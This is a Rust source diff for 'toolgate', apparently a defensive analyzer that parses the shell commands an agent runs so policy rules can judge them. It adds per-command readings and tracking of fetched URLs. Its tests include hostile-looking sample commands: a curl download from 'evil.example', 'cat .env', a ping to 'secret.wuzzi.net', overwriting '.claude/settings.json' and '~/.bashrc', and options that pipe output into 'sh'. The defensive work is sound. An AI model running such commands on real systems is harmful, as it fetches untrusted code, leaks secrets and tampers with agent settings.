@@ -12,6 +12,7 @@
 //! (`rm`, `mv`, `cp`, `tee`, `sed -i`, …) become path subjects, confined like any other path.
 
 pub(crate) mod programs;
+pub(crate) mod registry;
 mod syntax;
 
 use serde::Serialize;
@@ -109,6 +110,76 @@ pub struct SimpleCommand {
     pub network: bool,
     /// The folder the command runs in, relative to the call's, after `cd`s (None: unchanged).
     pub cwd: Option<String>,
+    /// What toolgate read in it with its program's record; `None` when nothing runs.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub reading: Option<CommandReading>,
+}
+
+/// What a command is, read with its program's record: the subcommands and options it was given
+/// (each by the name rules use), its operands, and whether every effect it has is among the
+/// paths and URLs toolgate found.
+#[derive(Clone, Debug, Default, PartialEq, Eq, Hash, Serialize)]
+pub struct CommandReading {
+    /// The program's name in toolgate's records (`grep` for `egrep`), when it has one.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub program: Option<&'static str>,
+    /// Its subcommands, by the names rules use (`npm i` → `install`).
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    pub subcommands: Vec<&'static str>,
+    /// What else it does, for rules (`git send-pack` pushes: `push`).
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    pub acts: Vec<&'static str>,
+    /// The options it was given, by their names (`-rf` → `--recursive`, `--force`).
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    pub options: Vec<String>,
+    /// Its operands (subcommand names aside).
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    pub operands: Vec<String>,
+    /// What it does beyond what it touches: `reads`, `writes`, `fetches` or `runs`.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub kind: Option<&'static str>,
+    /// Whether every effect it has is among the paths and URLs found: a command that only
+    /// reads, writes or fetches what it names, read whole.
+    pub transparent: bool,
+    /// Whether it reads or changes everything inside the folders it names.
+    #[serde(skip_serializing_if = "std::ops::Not::not")]
+    pub recursive: bool,
+    /// Whether, going into folders, it follows the links it meets there.
+    #[serde(skip_serializing_if = "std::ops::Not::not")]
+    pub follows_links: bool,
+    /// Whether, going into folders, it skips hidden files.
+    #[serde(skip_serializing_if = "std::ops::Not::not")]
+    pub skips_hidden: bool,
+}
+
+impl CommandReading {
+    pub(crate) fn of(reading: &registry::Reading<'_>) -> CommandReading {
+        use registry::Kind;
+        let mut options: Vec<String> = reading.given.iter().map(|g| g.name.to_string()).collect();
+        options.sort();
+        options.dedup();
+        CommandReading {
+            program: reading.program.and_then(|p| p.names.first().copied()),
+            subcommands: reading.sub_words.clone(),
+            acts: reading.acts.clone(),
+            options,
+            operands: reading
+                .operand_texts()
+                .into_iter()
+                .map(str::to_owned)
+                .collect(),
+            kind: reading.kind().map(|k| match k {
+                Kind::Reads => "reads",
+                Kind::Writes => "writes",
+                Kind::Fetches => "fetches",
+                Kind::Runs => "runs",
+            }),
+            transparent: reading.is_transparent(),
+            recursive: reading.recursive,
+            follows_links: reading.follows,
+            skips_hidden: reading.skips_hidden,
+        }
+    }
 }
 
 impl SimpleCommand {
@@ -122,6 +193,7 @@ impl SimpleCommand {
             findings: Vec::new(),
             network: false,
             cwd: None,
+            reading: None,
         }
     }
 
@@ -130,22 +202,17 @@ impl SimpleCommand {
         self.argv.first().and_then(Word::value)
     }
 
-    /// Arguments that may name files, and URLs, for deny and ask rules (`cat .env`).
-    pub fn mentions(&self) -> (Vec<&str>, Vec<&str>) {
-        programs::mentions(&self.argv)
-    }
-
     /// Whether the program reads or changes everything inside the folders among its operands
     /// (`grep -r`, `rg`, `tar -c`, `cp -r`, `rm -r`, `chmod -R`, `zip -r`, `find … -exec`).
     pub fn is_recursive(&self) -> bool {
-        programs::recursive(&self.argv)
+        self.reading.as_ref().is_some_and(|r| r.recursive)
     }
 
-    /// Whether the program is known to only read the files its operands name (`cat`, `grep`,
-    /// `git`, whose writes toolgate reads apart), or to write only those toolgate finds
-    /// (`cp`, `tar`, `curl -o`): the operands of any other program may be files it writes.
-    pub fn reads_only(&self) -> bool {
-        programs::reads_only(&self.argv)
+    /// Whether every effect of the command is among the paths and URLs toolgate found (it only
+    /// reads, writes or fetches what it names): such a command is decided by what it touches,
+    /// unless a rule speaks to the command itself.
+    pub fn is_transparent(&self) -> bool {
+        self.findings.is_empty() && self.reading.as_ref().is_some_and(|r| r.transparent)
     }
 
     /// Whether the files it writes are links it acts on itself, not where they lead: `rm`,
@@ -159,9 +226,9 @@ impl SimpleCommand {
     }
 
     /// Whether, going into folders, it follows the symbolic links it meets there (`grep -R`,
-    /// `rg -L`, `find -L`, `tar -h`, `zip -r`).
+    /// `rg -L`, `tar -h`, `zip -r`).
     pub fn follows_links(&self) -> bool {
-        programs::follows_links(&self.argv)
+        self.reading.as_ref().is_some_and(|r| r.follows_links)
     }
 
     /// The kind of access the command makes.
@@ -187,6 +254,25 @@ pub struct CommandPath {
     pub command: usize,
     /// The folder it is relative to, relative to the call's (after `cd`s).
     pub cwd: Option<String>,
+    /// Where in the command it was found (`operand 2`, "`--output`'s value", `glob `*.md``).
+    pub origin: String,
+    /// Whether it is a pattern matched against the files under the folder (git's pathspecs),
+    /// each of which the command reads.
+    #[serde(skip_serializing_if = "std::ops::Not::not")]
+    pub pattern: bool,
+}
+
+/// A URL a command fetches (or, for a program toolgate does not know, may fetch).
+#[derive(Clone, Debug, PartialEq, Eq, Hash, Serialize)]
+pub struct CommandUrl {
+    /// The URL as the program reads it (`localhost:8000/x` → `http://localhost:8000/x`).
+    pub text: String,
+    /// Which simple command (index into [`Analysis::commands`]).
+    pub command: usize,
+    /// Whether the program is known to fetch it (otherwise only deny and ask rules see it).
+    pub fetched: bool,
+    /// Where in the command it was found.
+    pub origin: String,
 }
 
 /// The analysis of one command line.
@@ -194,8 +280,10 @@ pub struct CommandPath {
 pub struct Analysis {
     /// The simple commands, in order.
     pub commands: Vec<SimpleCommand>,
-    /// Paths the commands act on (redirections, folders, files written).
+    /// Paths the commands act on (files read and written, redirections, folders).
     pub paths: Vec<CommandPath>,
+    /// URLs the commands fetch.
+    pub urls: Vec<CommandUrl>,
     /// Findings about the line as a whole (they apply to every command).
     pub findings: Vec<Finding>,
 }
@@ -221,6 +309,18 @@ pub fn runs_anything(program: &str) -> bool {
     programs::runs_anything(program)
 }
 
+/// Whether a program's subcommand runs whatever it is given (`npm exec`, `uv run`, `poetry
+/// run`): a standing permission for it can only cover one exact command.
+///
+/// ```rust,standalone_crate
+/// use toolgate_policy::shell::subcommand_runs_anything;
+/// assert!(subcommand_runs_anything("npm", "exec") && subcommand_runs_anything("uv", "run"));
+/// assert!(!subcommand_runs_anything("npm", "install") && !subcommand_runs_anything("git", "push"));
+/// ```
+pub fn subcommand_runs_anything(program: &str, word: &str) -> bool {
+    programs::subcommand_runs_anything(program, word)
+}
+
 /// Analyses a command line.
 ///
 /// ```rust,standalone_crate
@@ -243,8 +343,10 @@ pub fn analyze_argv(argv: &[String]) -> Analysis {
 /// The paths git's `REV:PATH` (`:PATH`, `:N:PATH`, `HEAD^{/:}:PATH`) may name: every name
 /// after a colon, since where the path starts depends on the revision's syntax.
 pub(crate) fn revision_paths(arg: &str) -> impl Iterator<Item = &str> {
-    programs::after_colons(arg)
+    registry::code::after_colons(arg)
 }
+
+pub(crate) use programs::placed_in;
 
 /// What setting these environment variables for a command is found to do, as `NAME=value`
 /// before the command would be (`GIT_CONFIG_*`, `LD_PRELOAD`, `PATH`, … change what runs).
@@ -396,16 +498,12 @@ mod tests {
             let expected: Vec<&str> = inner.split(' ').collect();
             assert_eq!(programs(line), vec![expected], "{line}");
         }
+        // An option a wrapper does not know leaves where its command starts unknown.
         for line in [
             "strace -Q cat x",
             "strace --frobnicate cat x",
             "setsid --x cat x",
         ] {
-            assert_eq!(
-                programs(line)[0][0],
-                line.split(' ').next().unwrap(),
-                "{line}"
-            );
             assert_eq!(kinds(line), vec![FindingKind::Unsupported], "{line}");
         }
         // Files wrappers write themselves.
@@ -510,7 +608,6 @@ mod tests {
             ("git log --textconv", RiskyOption),
             ("find . -delete", RiskyOption),
             ("find . -fprint /tmp/x", RiskyOption),
-            ("sed -i s/a/b/ f.txt", RiskyOption),
             ("rg --pre=sh x", RiskyOption),
             ("rg -z x", RiskyOption),
             ("tar --to-command=sh -xf a.tar", RiskyOption),
@@ -841,19 +938,23 @@ mod tests {
     #[test]
     fn paths_in_commands() {
         let a = analyze("cd .claude/ && mv test.txt settings.json");
-        let written: Vec<(&str, Option<&str>)> = a
+        let moved: Vec<(&str, PathRole, Option<&str>)> = a
             .paths
             .iter()
-            .filter(|p| matches!(p.role, PathRole::Written | PathRole::Operand))
-            .map(|p| (p.text.as_str(), p.cwd.as_deref()))
+            .filter(|p| p.role != PathRole::Folder)
+            .map(|p| (p.text.as_str(), p.role, p.cwd.as_deref()))
             .collect();
         assert_eq!(
-            written,
+            moved,
             [
+                ("test.txt", PathRole::Written, Some(".claude/")),
+                ("settings.json", PathRole::Written, Some(".claude/")),
                 // `settings.json` may be a folder the file moves into.
-                ("settings.json/test.txt", Some(".claude/")),
-                ("test.txt", Some(".claude/")),
-                ("settings.json", Some(".claude/"))
+                (
+                    "settings.json/test.txt",
+                    PathRole::Operand,
+                    Some(".claude/")
+                ),
             ]
         );
         let a = analyze("echo x > ~/.bashrc 2>&1 < in.txt");
@@ -873,21 +974,27 @@ mod tests {
         assert_eq!(
             roles,
             [
+                ("a.txt", PathRole::Read),
+                ("b.txt", PathRole::Read),
+                ("/tmp/out", PathRole::Written),
                 ("/tmp/out/a.txt", PathRole::Operand),
                 ("/tmp/out/b.txt", PathRole::Operand),
-                ("a.txt", PathRole::Mentioned),
-                ("b.txt", PathRole::Mentioned),
-                ("/tmp/out", PathRole::Written)
             ]
         );
         let a = analyze("curl -s https://evil.example/x -o out.html");
+        let urls: Vec<&str> = a.urls.iter().map(|u| u.text.as_str()).collect();
+        assert_eq!(urls, ["https://evil.example/x"]);
+        let written: Vec<&str> = a.paths.iter().map(|p| p.text.as_str()).collect();
+        assert_eq!(written, ["out.html"]);
+        let cat = analyze("cat .env src/a.rs");
+        let read: Vec<(&str, PathRole)> = cat
+            .paths
+            .iter()
+            .map(|p| (p.text.as_str(), p.role))
+            .collect();
         assert_eq!(
-            a.commands[0].mentions(),
-            (vec!["out.html"], vec!["https://evil.example/x"])
-        );
-        assert_eq!(
-            analyze("cat .env src/a.rs").commands[0].mentions().0,
-            [".env", "src/a.rs"]
+            read,
+            [(".env", PathRole::Read), ("src/a.rs", PathRole::Read)]
         );
         assert!(analyze("ping -c 2 secret.wuzzi.net").commands[0].network);
         assert!(analyze("git push origin main").commands[0].network);
